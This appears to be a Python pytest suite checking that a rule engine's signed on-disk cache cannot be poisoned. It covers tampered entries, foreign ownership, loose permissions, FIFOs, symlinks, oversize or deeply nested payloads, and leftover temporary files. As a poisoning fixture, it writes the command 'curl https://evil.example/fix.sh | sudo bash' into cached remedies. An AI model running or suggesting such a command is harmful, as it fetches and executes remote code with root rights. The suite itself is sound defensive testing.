"""A rule cache that cannot be poisoned (reliability review D6): only our own, unshared, signed,
size-capped regular files are read; anything else, and any read error, is a miss (the rules are
validated again); temporary files never stay behind; the suite never touches ~/.cache."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from expert_engine import load_ruleset
from expert_engine.startup import store
from tests.helpers import suite_cache

REPO = Path(__file__).resolve().parent.parent
RULES = REPO / "rules"


@pytest.fixture(scope="module")
def fresh():
    """The shipped rules, validated without any cache."""
    return load_ruleset(RULES).ruleset


@pytest.fixture
def cache(tmp_path) -> Path:
    folder = tmp_path / "cache"
    assert load_ruleset(RULES, cache_dir=folder).problems == ()
    return folder


def entry(cache: Path) -> Path:
    (found,) = cache.glob("rules-*.json")
    return found


def poison(path: Path) -> None:
    """What the review did: every finding's condition replaced by one that never holds, a remedy replaced."""
    mac, _, payload = path.read_bytes().partition(b"\n")
    header, *lines = payload.split(b"\n")  # the frame, then one document a line (startup/store.py)
    documents = [json.loads(line) for line in lines]
    for document in documents:
        for finding in document["rule"]["findings"]:
            finding["when"] = {"fact": "tenant.cloud", "equals": "never"}
            finding["remedy"] = {"en": "curl https://evil.example/fix.sh | sudo bash", "uk": "x"}
    path.write_bytes(mac + b"\n" + b"\n".join([header] + [json.dumps(d).encode() for d in documents]))


def test_a_valid_entry_is_used(cache, fresh, monkeypatch):
    monkeypatch.setattr("expert_engine.loader._load_rule_document", lambda *a: pytest.fail("validated again"))
    assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh


def test_a_changed_entry_is_not_believed(cache, fresh):
    poison(entry(cache))
    assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh


def test_a_poisoned_shared_cache_does_not_change_the_verdict(cache):
    poison(entry(cache))
    env = dict(os.environ, WRITEBACK_DOCTOR_CACHE=str(cache))
    done = subprocess.run([sys.executable, "-m", "writeback_doctor", "examples/sspr-off.json"], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 1 and "evil.example" not in done.stdout, done.stderr


@pytest.mark.skipif(not hasattr(os, "chown") or os.geteuid() != 0, reason="needs root to give a file away")
def test_an_entry_owned_by_someone_else_is_ignored(cache, fresh):
    os.chown(entry(cache), 65534, 65534)  # nobody
    assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh
    assert store.read_cached(cache, entry(cache).name[6:-5]) is not None  # rewritten as ours
    os.chown(entry(cache), 65534, 65534)
    assert store.read_cached(cache, entry(cache).name[6:-5]) is None


def test_an_entry_others_can_write_is_ignored(cache):
    path = entry(cache)
    key = path.name[len("rules-"):-len(".json")]
    assert store.read_cached(cache, key) is not None
    os.chmod(path, 0o666)
    assert store.read_cached(cache, key) is None
    os.chmod(path, 0o600)
    os.chmod(cache / "secret", 0o622)
    assert store.read_cached(cache, key) is None


def test_a_renamed_entry_is_not_taken_for_another_rule_set(cache):
    path = entry(cache)
    other = cache / ("rules-" + "0" * 64 + ".json")
    os.link(path, other)
    assert store.read_cached(cache, "0" * 64) is None


@pytest.mark.parametrize("item", [42, {}, "x", {"id": "x", "severity": "nonsense"},
                                  {"rule": {"id": "x"}, "lines": {}}, {"rule": 42, "lines": []}])
def test_malformed_entries_even_correctly_signed_are_a_miss(cache, fresh, item):
    path = entry(cache)
    key = path.name[len("rules-"):-len(".json")]
    header, *lines = path.read_bytes().partition(b"\n")[2].split(b"\n")  # as many documents as there are rule files
    payload = b"\n".join([header] + [json.dumps(item).encode()] * len(lines))
    secret = (cache / "secret").read_bytes()
    path.write_bytes(store._mac(secret, key, payload).encode() + b"\n" + payload)
    assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh


@pytest.mark.parametrize("header", [b"[]", b"42", b'{"frame_key": 7, "frame": []}'])
def test_an_entry_whose_frame_line_is_malformed_is_a_miss_or_its_frame_is_not_used(cache, fresh, header):
    path = entry(cache)
    key = path.name[len("rules-"):-len(".json")]
    lines = path.read_bytes().partition(b"\n")[2].split(b"\n")
    payload = b"\n".join([header] + lines[1:])
    path.write_bytes(store._mac((cache / "secret").read_bytes(), key, payload).encode() + b"\n" + payload)
    assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh


def test_a_signed_frame_that_is_not_a_frame_falls_back_to_the_frame_file(cache, fresh):
    path = entry(cache)
    key = path.name[len("rules-"):-len(".json")]
    header, *lines = path.read_bytes().partition(b"\n")[2].split(b"\n")
    frame_key = json.loads(header)["frame_key"]
    for frame in ({"name": "x"}, {"name": "x", "languages": "en", "stages": 5, "severities": [{}]}):
        payload = b"\n".join([json.dumps({"frame_key": frame_key, "frame": frame}).encode()] + lines)
        path.write_bytes(store._mac((cache / "secret").read_bytes(), key, payload).encode() + b"\n" + payload)
        assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh


def test_a_deeply_nested_signed_entry_is_a_miss(cache, fresh):
    path = entry(cache)
    key = path.name[len("rules-"):-len(".json")]
    payload = b"[" * 100_000 + b"]" * 100_000
    path.write_bytes(store._mac((cache / "secret").read_bytes(), key, payload).encode() + b"\n" + payload)
    assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh


def test_a_fifo_entry_does_not_hang(cache, fresh):
    path = entry(cache)
    path.unlink()
    os.mkfifo(path, 0o600)
    result = {}
    worker = threading.Thread(target=lambda: result.update(r=load_ruleset(RULES, cache_dir=cache)), daemon=True)
    worker.start()
    worker.join(timeout=60)
    assert not worker.is_alive() and result["r"].ruleset == fresh


def test_a_symlink_to_an_endless_file_is_not_read(cache, fresh):
    path = entry(cache)
    path.unlink()
    os.symlink("/dev/zero", path)
    assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh


def test_an_entry_over_the_size_cap_is_not_read(cache, monkeypatch):
    key = entry(cache).name[len("rules-"):-len(".json")]
    assert store.read_cached(cache, key) is not None
    monkeypatch.setattr(store, "MAX_ENTRY_BYTES", 1000)
    assert store.read_cached(cache, key) is None


def test_a_failed_rename_leaves_no_temporary_file(tmp_path, monkeypatch):
    cache = tmp_path / "cache"

    def refuse(*_):
        raise OSError(18, "Invalid cross-device link")

    monkeypatch.setattr(os, "replace", refuse)
    for _ in range(3):
        assert load_ruleset(RULES, cache_dir=cache).problems == ()
    assert sorted(p.name for p in cache.iterdir()) == ["secret"]


def test_temporaries_of_killed_runs_are_removed_by_the_next_write(tmp_path):
    cache = tmp_path / "cache"
    cache.mkdir()
    old, recent = cache / "tmpabc123.tmp", cache / ".rules-xyz.tmp"
    old.write_text("x")
    recent.write_text("x")
    os.utime(old, (time.time() - 7200, time.time() - 7200))
    load_ruleset(RULES, cache_dir=cache)
    assert not old.exists() and recent.exists()  # a recent one may belong to a run still writing


def test_the_secret_is_private():
    load_ruleset(RULES, cache_dir=suite_cache())
    assert stat.S_IMODE((suite_cache() / "secret").stat().st_mode) == 0o600


def test_the_suite_uses_its_own_cache_not_the_users():
    from writeback_doctor.startup import cache_directory
    assert cache_directory() == suite_cache()
    assert not str(cache_directory()).startswith(os.path.expanduser("~"))


def test_a_temporary_file_is_private_and_never_taken_over(tmp_path):
    # written as tempfile.mkstemp writes one (exclusive create, mode 0600), without importing tempfile at start-up
    handles = [store._temporary(tmp_path) for _ in range(3)]
    for handle, path in handles:
        os.close(handle)
        assert stat.S_IMODE(path.stat().st_mode) == 0o600 and path.name.startswith(".rules-")
    assert len({path for _, path in handles}) == 3
